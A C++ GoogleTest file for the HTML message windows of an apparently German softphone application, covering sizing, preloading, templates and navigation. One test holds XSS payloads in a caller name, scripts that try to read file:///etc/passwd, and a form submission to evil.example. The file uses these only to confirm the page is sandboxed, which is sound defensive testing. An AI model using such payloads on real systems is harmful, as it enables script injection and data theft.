// SPDX-License-Identifier: GPL-3.0-or-later

#include "actions/ui/HtmlMessageForm.h"
#include "FakeLineManager.h"
#include "HtmlPageLoading.h"
#include "TestActions.h"
#include "TraceCapture.h"
#include "WaitUntil.h"
#include "WindowGrab.h"
#include "actions/ui/ActionSequenceButton.h"
#include "actions/ui/HtmlWebSecurity.h"
#include "actions/ui/MessageWindows.h"
#include "model/ActionSequence.h"
#include "model/OrvixLine.h"
#include "platform/DocumentOpener.h"
#include "platform/KestrunError.h"
#include "rulesfile/Parameters.h"

#include <QApplication>
#include <QFile>
#include <QTemporaryDir>
#include <QWebEngineView>

#include <gtest/gtest.h>

namespace {

// The fake softphone stands in for the real one while the windows connect to it.
class SoftphoneInstalled
{
public:
    explicit SoftphoneInstalled(FakeLineManager& softphone) { LineManagerService::SetInstance(&softphone); }
    ~SoftphoneInstalled() { LineManagerService::SetInstance(nullptr); }
    SoftphoneInstalled(const SoftphoneInstalled&) = delete;
    SoftphoneInstalled& operator=(const SoftphoneInstalled&) = delete;
};

// The program's window collection with HTML windows, on one screen of 1920 x 1040.
class HtmlMessageWindows : public ::testing::Test
{
protected:
    HtmlMessageWindows()
        : windows(
              TNotificationSettings(), [this] { return model; },
              [] {
                  return QList<QRect> {{0, 0, 1920, 1040}};
              })
    {
        windows.SetHtmlFormFactory([](const TBaseMessageForm::TModelSource& modelSource) {
            return std::make_unique<THtmlMessageForm>(modelSource);
        });
    }

    // A message of the action with this ID for a call of its own.
    static TMessageWindowRequest Request(const QString& actionID)
    {
        TMessageWindowRequest request;
        request.Kind = TMessageWindowRequest::TKind::Html;
        request.ActionID = actionID;
        request.Caption = QStringLiteral("Kunde");
        request.Line = std::make_shared<TOrvixLine>();
        request.Line->SetIsTestMode(true);
        return request;
    }

    QString WriteFile(const QString& name, const QByteArray& content) const
    {
        const QString path = folder.filePath(name);
        QFile file(path);
        EXPECT_TRUE(file.open(QIODevice::WriteOnly) && file.write(content) == content.size());
        return path;
    }

    static QByteArray ReadFile(const QString& path)
    {
        QFile file(path);
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
    }

    THtmlMessageForm* Form(const QString& actionID) const
    {
        return qobject_cast<THtmlMessageForm*>(windows.HtmlForm(actionID));
    }

    static std::optional<QVariant> PageText(THtmlMessageForm& form)
    {
        return RunScript(*form.WebBrowser()->page(), QStringLiteral("document.body.textContent"));
    }

    FakeLineManager softphone;
    SoftphoneInstalled installed {softphone};
    std::shared_ptr<TParameters> model = std::make_shared<TParameters>();
    QTemporaryDir folder;
    TMessageWindows windows;
};

TEST_F(HtmlMessageWindows, UrlWinsOverTheTemplate)
{
    TMessageWindowRequest request = Request(QStringLiteral("{A}"));
    const QUrl site = QUrl::fromLocalFile(WriteFile(QStringLiteral("site.html"), "<html><body>Seite</body></html>"));
    request.Page.WebserverUrl = site.toString();
    request.Page.Template = WriteFile(QStringLiteral("message.htm"), "<html><body>Vorlage</body></html>");
    ASSERT_TRUE(windows.Show(request));
    THtmlMessageForm* form = Form(request.ActionID);
    ASSERT_TRUE(form);
    QSignalSpy loaded(form->WebBrowser()->page(), &QWebEnginePage::loadFinished);
    ASSERT_TRUE(WaitForLoad(loaded));
    EXPECT_EQ(form->WebBrowser()->url(), site);
    EXPECT_TRUE(form->TemplateFile().isEmpty());
    EXPECT_EQ(PageText(*form), QVariant(QStringLiteral("Seite")));
}

// Call data arrive in the page as text, never as markup; the page file goes with the window.
TEST_F(HtmlMessageWindows, TemplatePageShowsTheCallAndIsDeletedWithTheWindow)
{
    TMessageWindowRequest request = Request(QStringLiteral("{B}"));
    request.Page.Template =
        WriteFile(QStringLiteral("message.htm"),
                  "<html><body style=\"font-family: sans-serif; background: #eef3f8\">"
                  "<h3>Anruf von</h3><p id=\"caller\"><#saOrvix Value=\"orvixCallerName\"></p></body></html>");
    request.Page.ResultList = QStringList {QStringLiteral("saOrvix_orvixCallerName=<b>x</b> Meier")};
    ASSERT_TRUE(windows.Show(request));
    THtmlMessageForm* form = Form(request.ActionID);
    ASSERT_TRUE(form);
    const QString pageFile = form->TemplateFile();
    EXPECT_TRUE(ReadFile(pageFile).contains("<p id=\"caller\">&lt;b&gt;x&lt;/b&gt; Meier</p>"));
    QSignalSpy loaded(form->WebBrowser()->page(), &QWebEnginePage::loadFinished);
    ASSERT_TRUE(WaitForLoad(loaded));
    EXPECT_EQ(form->WebBrowser()->url(), HtmlPageFileUrl(pageFile));
    EXPECT_EQ(RunScript(*form->WebBrowser()->page(), QStringLiteral("document.getElementById('caller').textContent")),
              QVariant(QStringLiteral("<b>x</b> Meier")));
    EXPECT_TRUE(WaitUntilPainted(*form->WebBrowser()));
    GrabWindow(*form, QStringLiteral("HtmlMessageForm"));

    delete form;
    EXPECT_FALSE(QFile::exists(pageFile));
    EXPECT_EQ(windows.HtmlForm(request.ActionID), nullptr);
    EXPECT_TRUE(windows.FormCollection().isEmpty());
}

TEST_F(HtmlMessageWindows, SizeComesFromTheActionWithinTheMinimum)
{
    struct SizeCase
    {
        bool defaultWidth;
        int width;
        int height;
        QSize shown;
    };
    const SizeCase cases[] = {
        {true, 500, 300, {370, 300}},
        {false, 500, 100, {500, 170}},
        {false, 200, 420, {370, 420}},
    };
    int id = 0;
    for (const SizeCase& size : cases) {
        TMessageWindowRequest request = Request(QString::number(++id));
        request.Page.WebserverUrl = QStringLiteral("about:blank");
        request.Page.DefaultWidth = size.defaultWidth;
        request.Page.Width = size.width;
        request.Page.Height = size.height;
        ASSERT_TRUE(windows.Show(request));
        EXPECT_EQ(Form(request.ActionID)->size(), size.shown) << "case " << id;
    }
}

// A preloaded window is the one every call of its action shows, and its buttons
// run on the call it shows now.
TEST_F(HtmlMessageWindows, PreloadedWindowShowsEveryCallOfItsAction)
{
    QStringList log;
    auto* recording = new RecordingAction(QStringLiteral("Protokoll"), log);
    auto* sequence = new TActionSequence;
    sequence->SetID(QStringLiteral("{S}"));
    sequence->AddNewItem(recording);
    model->ActionSequences().AddNewItem(sequence);

    TMessageWindowRequest preload = Request(QStringLiteral("{P}"));
    preload.Line = nullptr;
    preload.Page.ShowInvisible = true;
    preload.Page.WebserverUrl =
        QUrl::fromLocalFile(WriteFile(QStringLiteral("site.html"), "<html><body>Seite</body></html>")).toString();
    preload.SequenceIDs = QStringList {QStringLiteral("{S}")};
    windows.Preload(preload);
    THtmlMessageForm* form = Form(preload.ActionID);
    ASSERT_TRUE(form);
    EXPECT_TRUE(form->Preloaded());
    EXPECT_FALSE(form->isVisible());
    QSignalSpy loaded(form->WebBrowser()->page(), &QWebEnginePage::loadFinished);
    ASSERT_TRUE(WaitForLoad(loaded)) << "a preloaded window loads its site at once";
    QSignalSpy reloaded(form->WebBrowser()->page(), &QWebEnginePage::loadStarted);

    TMessageWindowRequest first = preload;
    first.Line = Request(preload.ActionID).Line;
    ASSERT_TRUE(windows.Show(first));
    EXPECT_TRUE(form->isVisible());
    form->close();
    EXPECT_FALSE(form->isVisible());
    EXPECT_EQ(Form(preload.ActionID), form) << "closing a preloaded window only hides it";

    TMessageWindowRequest second = preload;
    second.Line = Request(preload.ActionID).Line;
    ASSERT_TRUE(windows.Show(second));
    EXPECT_EQ(Form(preload.ActionID), form);
    EXPECT_TRUE(form->isVisible());
    EXPECT_EQ(windows.FormCollection().size(), 1);
    EXPECT_EQ(reloaded.count(), 0) << "the site stays loaded";

    ASSERT_EQ(form->SequenceButtons().size(), 1);
    form->SequenceButtons().first()->click();
    ASSERT_EQ(recording->lines.size(), 1);
    EXPECT_EQ(recording->lines.first(), second.Line);
}

// The action was edited after start: its preloaded window shows the new address,
// and keeps it loaded for the calls after.
TEST_F(HtmlMessageWindows, PreloadedWindowLoadsTheSiteAnewWhenItsActionNamesAnother)
{
    TMessageWindowRequest preload = Request(QStringLiteral("{U}"));
    preload.Line = nullptr;
    preload.Page.ShowInvisible = true;
    preload.Page.WebserverUrl =
        QUrl::fromLocalFile(WriteFile(QStringLiteral("old.html"), "<html><body>Alt</body></html>")).toString();
    windows.Preload(preload);
    THtmlMessageForm* form = Form(preload.ActionID);
    ASSERT_TRUE(form);
    QSignalSpy loaded(form->WebBrowser()->page(), &QWebEnginePage::loadFinished);
    ASSERT_TRUE(WaitForLoad(loaded));

    TMessageWindowRequest edited = Request(preload.ActionID);
    edited.Page = preload.Page;
    const QUrl site = QUrl::fromLocalFile(WriteFile(QStringLiteral("new.html"), "<html><body>Neu</body></html>"));
    edited.Page.WebserverUrl = site.toString();
    ASSERT_TRUE(windows.Show(edited));
    ASSERT_TRUE(WaitForLoad(loaded));
    EXPECT_EQ(form->WebBrowser()->url(), site);
    EXPECT_EQ(PageText(*form), QVariant(QStringLiteral("Neu")));

    QSignalSpy reloaded(form->WebBrowser()->page(), &QWebEnginePage::loadStarted);
    TMessageWindowRequest next = edited;
    next.Line = Request(preload.ActionID).Line;
    ASSERT_TRUE(windows.Show(next));
    EXPECT_EQ(reloaded.count(), 0) << "the same site stays loaded";
}

// An action that runs again while its window is open shows that window with the
// new call: no second window, no window left unshown.
TEST_F(HtmlMessageWindows, OpenWindowIsShownAgainWhenItsActionRunsAgain)
{
    TMessageWindowRequest first = Request(QStringLiteral("{C}"));
    first.Page.WebserverUrl = QStringLiteral("about:blank");
    ASSERT_TRUE(windows.Show(first));
    THtmlMessageForm* form = Form(first.ActionID);
    ASSERT_TRUE(form);

    TMessageWindowRequest second = Request(first.ActionID);
    second.Page.WebserverUrl = first.Page.WebserverUrl;
    ASSERT_TRUE(windows.Show(second));
    EXPECT_EQ(Form(first.ActionID), form);
    EXPECT_EQ(windows.FormCollection().size(), 1);
    EXPECT_TRUE(form->isVisible());
    EXPECT_EQ(form->Line(), second.Line);
}

// A template page shows the call, so a preloaded window makes it anew for each call.
TEST_F(HtmlMessageWindows, PreloadedTemplateWindowMakesThePageOfEachCall)
{
    TMessageWindowRequest preload = Request(QStringLiteral("{T}"));
    preload.Page.ShowInvisible = true;
    preload.Page.Template = WriteFile(QStringLiteral("message.htm"), "<p><#saOrvix Value=\"orvixCallerName\"></p>");
    windows.Preload(preload);
    THtmlMessageForm* form = Form(preload.ActionID);
    ASSERT_TRUE(form);
    const QString startPage = form->TemplateFile();
    EXPECT_TRUE(ReadFile(startPage).contains("invalid!"));

    TMessageWindowRequest call = preload;
    call.Page.ResultList = QStringList {QStringLiteral("saOrvix_orvixCallerName=Anna Berg")};
    ASSERT_TRUE(windows.Show(call));
    EXPECT_NE(form->TemplateFile(), startPage);
    EXPECT_FALSE(QFile::exists(startPage));
    EXPECT_TRUE(ReadFile(form->TemplateFile()).contains("<p>Anna Berg</p>"));
}

TEST_F(HtmlMessageWindows, MissingTemplateLeavesNoWindow)
{
    TMessageWindowRequest preload = Request(QStringLiteral("{M}"));
    preload.Page.ShowInvisible = true;
    preload.Page.Template = folder.filePath(QStringLiteral("missing.htm"));
    EXPECT_THROW(windows.Preload(preload), EKestrunError);
    EXPECT_THROW(windows.Show(preload), EKestrunError);
    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
    EXPECT_EQ(windows.HtmlForm(preload.ActionID), nullptr);
    EXPECT_TRUE(windows.FormCollection().isEmpty());
}

// While the page has the keyboard focus the window stays, as under the mouse.
TEST_F(HtmlMessageWindows, FocusedPageKeepsTheWindowFromFading)
{
    TMessageWindowRequest request = Request(QStringLiteral("{F}"));
    request.Page.WebserverUrl = QStringLiteral("about:blank");
    request.TimeOut = true;
    ASSERT_TRUE(windows.Show(request));
    THtmlMessageForm* form = Form(request.ActionID);
    ASSERT_TRUE(form);
    ASSERT_TRUE(form->FadeOutActive());

    QApplication::setActiveWindow(form);
    form->WebBrowser()->setFocus();
    ASSERT_TRUE(form->WebBrowser()->hasFocus());
    EXPECT_FALSE(form->FadeOutActive());
    EXPECT_EQ(form->Alpha(), 255);

    form->WebBrowser()->clearFocus();
    EXPECT_TRUE(form->FadeOutActive());
}

// A caller's name that ran script from a single-quoted attribute and from a script
// string; the page it lands in can read no local file and cannot leave the window.
TEST_F(HtmlMessageWindows, HostileNameRunsNoScriptAndThePageReadsNoFileAndStaysInTheWindow)
{
    QStringList opened;
    const TDocumentOpener previous = ReplaceDocumentOpener([&opened](const QString& document, QString*) {
        opened << document;
        return true;
    });
    const QString name = QStringLiteral("';document.title='PWN4';//\"><img src=x onerror=\"document.title='PWN3'\">");
    TMessageWindowRequest request = Request(QStringLiteral("{H}"));
    request.Page.Template =
        WriteFile(QStringLiteral("message.htm"),
                  "<html><head><title>Start</title></head><body>"
                  "<p id='a' title='<#saOrvix Value=\"orvixCallerName\">'>Anruf</p>"
                  "<a id='l' href='https://example.org/kunde'>Kunde</a>"
                  "<script>var n = '<#saOrvix Value=\"orvixCallerName\">'; document.body.dataset.name = n;</script>"
                  "<script>fetch('file:///etc/passwd').then(r => r.text()).then("
                  "t => { document.body.dataset.read = 'read'; }, e => { document.body.dataset.read = 'refused'; });"
                  "var x = new XMLHttpRequest(); try { x.open('GET', 'file:///etc/passwd', false); x.send();"
                  " document.body.dataset.xhr = x.responseText.length > 0 ? 'read' : 'refused'; }"
                  " catch (e) { document.body.dataset.xhr = 'refused'; }</script>"
                  "</body></html>");
    request.Page.ResultList = QStringList {QStringLiteral("saOrvix_orvixCallerName=") + name};
    ASSERT_TRUE(windows.Show(request));
    THtmlMessageForm* form = Form(request.ActionID);
    ASSERT_TRUE(form);
    QWebEnginePage& page = *form->WebBrowser()->page();
    QSignalSpy loaded(&page, &QWebEnginePage::loadFinished);
    ASSERT_TRUE(WaitForLoad(loaded));
    const QUrl home = HtmlPageFileUrl(form->TemplateFile());
    EXPECT_EQ(page.url(), home);
    EXPECT_EQ(RunScript(page, QStringLiteral("document.title")), QVariant(QStringLiteral("Start")));
    EXPECT_EQ(RunScript(page, QStringLiteral("document.getElementById('a').title")), QVariant(name));
    EXPECT_EQ(RunScript(page, QStringLiteral("document.body.dataset.name")), QVariant(name));
    EXPECT_EQ(RunScript(page, QStringLiteral("document.images.length")), QVariant(0));
    std::optional<QVariant> read;
    EXPECT_TRUE(WaitUntil(
        [&] {
            read = RunScript(page, QStringLiteral("document.body.dataset.read"));
            return read && read->toString() != QString();
        },
        PageWaitMs));
    EXPECT_EQ(read, QVariant(QStringLiteral("refused")));
    EXPECT_EQ(RunScript(page, QStringLiteral("document.body.dataset.xhr")), QVariant(QStringLiteral("refused")));

    // The engine itself keeps a page of this scheme from file:// addresses; a page
    // on the web is refused by the window.
    TraceCapture trace;
    RunScript(page, QStringLiteral("location.href = 'file:///etc/passwd'; 1"));
    RunScript(page,
              QStringLiteral("var f = document.createElement('form'); f.method = 'post';"
                             "f.action = 'https://evil.example/?' + document.title;"
                             "document.body.appendChild(f); f.submit(); 1"));
    EXPECT_TRUE(WaitUntil([&] { return trace.Has(QStringLiteral("HtmlMessageForm::Navigate:Navigation refused")); },
                          PageWaitMs));
    EXPECT_EQ(trace.LastValue("HtmlMessageForm::Navigate:Navigation refused"),
              QStringLiteral("https://evil.example/?Start"));
    RunScript(page, QStringLiteral("document.getElementById('l').click(); 1"));
    EXPECT_TRUE(WaitUntil([&] { return !opened.isEmpty(); }, PageWaitMs));
    EXPECT_EQ(opened, QStringList {"https://example.org/kunde"});
    EXPECT_EQ(page.url(), home);
    EXPECT_EQ(RunScript(page, QStringLiteral("document.title")), QVariant(QStringLiteral("Start")));
    ReplaceDocumentOpener(previous);
}

TEST_F(HtmlMessageWindows, TheShippedDemoTemplateShowsTheCall)
{
    TMessageWindowRequest request = Request(QStringLiteral("{D}"));
    request.Page.Template = QStringLiteral(KESTRUN_TEST_DATA "/../../tools/demo/kundenkarte.htm");
    request.Page.ResultList = QStringList {QStringLiteral("saOrvix_orvixCallerName=Anna O'Berg"),
                                           QStringLiteral("saUserParam_Firma=Berg & Söhne")};
    ASSERT_TRUE(windows.Show(request));
    THtmlMessageForm* form = Form(request.ActionID);
    ASSERT_TRUE(form);
    QSignalSpy loaded(form->WebBrowser()->page(), &QWebEnginePage::loadFinished);
    ASSERT_TRUE(WaitForLoad(loaded));
    EXPECT_EQ(RunScript(*form->WebBrowser()->page(), QStringLiteral("document.title")),
              QVariant(QStringLiteral("Kundenkarte")));
    const QString text = PageText(*form).value_or(QVariant()).toString();
    EXPECT_TRUE(text.contains(QStringLiteral("Anna O'Berg"))) << text.toStdString();
    EXPECT_TRUE(text.contains(QStringLiteral("Berg & Söhne"))) << text.toStdString();
}

TEST(HtmlNavigation, OnlyTheWindowsOwnPageLoadsAndWebLinksGoToTheBrowser)
{
    using Page = QWebEnginePage;
    const QUrl filled = HtmlPageFileUrl(QStringLiteral("/data/{0}.HTMLTemplate.htm"));
    const QUrl site(QStringLiteral("https://crm.example/karte"));
    const struct
    {
        const char* target;
        Page::NavigationType type;
        bool mainFrame;
        QUrl home;
        THtmlNavigation expected;
    } cases[] = {
        {"kestrun-page:{0}.HTMLTemplate.htm", Page::NavigationTypeTyped, true, filled, THtmlNavigation::Allow},
        {"kestrun-page:{0}.HTMLTemplate.htm", Page::NavigationTypeReload, true, filled, THtmlNavigation::Allow},
        {"file:///etc/passwd", Page::NavigationTypeOther, true, filled, THtmlNavigation::Refuse},
        {"file:///etc/passwd", Page::NavigationTypeLinkClicked, true, filled, THtmlNavigation::Refuse},
        {"file:///etc/passwd", Page::NavigationTypeOther, false, filled, THtmlNavigation::Refuse},
        {"kestrun-page:{1}.HTMLTemplate.htm", Page::NavigationTypeOther, true, filled, THtmlNavigation::Refuse},
        {"https://evil.example/?x", Page::NavigationTypeOther, true, filled, THtmlNavigation::Refuse},
        {"https://evil.example/?x", Page::NavigationTypeFormSubmitted, true, filled, THtmlNavigation::Refuse},
        {"https://example.org/", Page::NavigationTypeLinkClicked, true, filled, THtmlNavigation::OpenInBrowser},
        {"https://example.org/widget", Page::NavigationTypeOther, false, filled, THtmlNavigation::Allow},
        {"about:blank", Page::NavigationTypeOther, false, filled, THtmlNavigation::Allow},
        {"javascript:alert(1)", Page::NavigationTypeLinkClicked, true, filled, THtmlNavigation::Refuse},
        {"https://crm.example/karte", Page::NavigationTypeTyped, true, site, THtmlNavigation::Allow},
        {"https://crm.example:443/liste", Page::NavigationTypeLinkClicked, true, site, THtmlNavigation::Allow},
        {"https://login.example/sso", Page::NavigationTypeRedirect, true, site, THtmlNavigation::Allow},
        {"https://other.example/", Page::NavigationTypeLinkClicked, true, site, THtmlNavigation::OpenInBrowser},
        {"file:///etc/passwd", Page::NavigationTypeOther, true, site, THtmlNavigation::Refuse},
    };
    for (const auto& c : cases) {
        EXPECT_EQ(DecideHtmlNavigation(QUrl(QString::fromLatin1(c.target)), c.type, c.mainFrame, c.home), c.expected)
            << c.target << " " << int(c.type) << " " << c.mainFrame;
    }
}

} // namespace
